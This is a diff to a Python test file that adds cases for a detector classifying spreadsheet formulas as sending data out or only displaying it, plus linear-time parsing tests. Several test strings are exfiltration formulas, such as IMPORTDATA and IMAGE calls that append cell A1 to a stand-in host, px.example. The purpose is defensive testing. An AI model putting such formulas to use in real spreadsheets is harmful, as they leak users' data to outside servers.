@@ -34,6 +34,10 @@ def read(text: str) -> list[tuple[str, str]]:
         ('"=IMAGE(""https://px.example/""&A1)"', SENDS),
         ('- IMAGE ("https://px.example/o.png")', SHOWS),
         ('=\nIMPORTDATA(\n"https://px.example/"\n&A1)', SENDS),
+        ('=LET(u,"https://px.example/?d="&A1,IMPORTDATA(u))', SENDS),
+        ("=IMAGE(&quot;https://px.example/o.png&quot;)", SHOWS),
+        ('=IMAGE("a"),=IMPORTDATA(\n"https://px.example/")', SHOWS),
+        ('=HYPERLINK("https://px.example/report";"Report"),' * 200, SHOWS),
         ('var a="x"+image("https://px.example/a.png"),b=' + "1;" * 2000, SHOWS),
     ],
 )
@@ -71,7 +75,10 @@ def test_a_formula_counts_in_every_tool_that_does_more_than_look() -> None:
     assert kinds("search_docs", query=cell) == [("looks", "")]
 
 
-@pytest.mark.parametrize("text", [",=IMAGE(", "IMAGE(", ',=IMAGE("', 'a=IMAGE("'])
+@pytest.mark.parametrize(
+    "text",
+    [",=IMAGE(", "IMAGE(", ',=IMAGE("', 'a=IMAGE("', '+IMAGE("http://a.example/ ,', ',=IMAGE("http://a.example/"),'],
+)
 def test_a_long_text_of_formulas_is_read_in_linear_time(text: str) -> None:
     short, long = (text * size for size in (4_000, 32_000))
     assert takes_at_most_times(16, lambda: read(long), lambda: read(short), 0.05)
